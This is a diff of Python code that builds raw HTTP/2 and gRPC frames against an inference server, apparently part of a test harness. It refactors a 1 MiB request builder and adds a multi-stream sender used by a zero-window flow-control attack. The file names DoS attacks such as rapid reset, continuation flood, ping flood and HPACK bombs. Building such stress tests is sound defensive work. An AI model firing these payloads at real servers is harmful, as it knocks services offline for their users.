@@ -87,21 +87,24 @@ def compressed_bomb():
                     body(i, prefixed(packed, 1)) for i in range(1, 9, 2))
 
 
-def large_request():
+def large_request(model=b"any"):
     def part(number, payload):
         return bytes([number << 3 | 2]) + varint(len(payload)) + payload
 
     values = bytes(1 << 20)
     tensor = part(1, b"INPUT0") + part(2, b"FP32") + part(3, varint(len(values) // 4))
-    return part(1, b"any") + part(5, tensor) + part(7, values)
+    return part(1, model) + part(5, tensor) + part(7, values)
+
+
+def large_calls(model=b"any"):
+    message = prefixed(large_request(model))
+    return b"".join(frame(HEADERS, END_HEADERS, i, head(INFER)) + body(i, message)
+                    for i in range(1, 2 * N_STREAMS, 2))
 
 
 def zero_window():
     """Answers of 1 MiB each, which are never read; the window of each stream is and stays 0."""
-    message = prefixed(large_request())
-    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(
-        frame(HEADERS, END_HEADERS, i, head(INFER)) + body(i, message)
-        for i in range(1, 2 * N_STREAMS, 2))
+    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + large_calls()
 
 
 ATTACKS = [rapid_reset, continuation_flood, settings_flood, ping_flood, hpack_bomb, header_bomb,
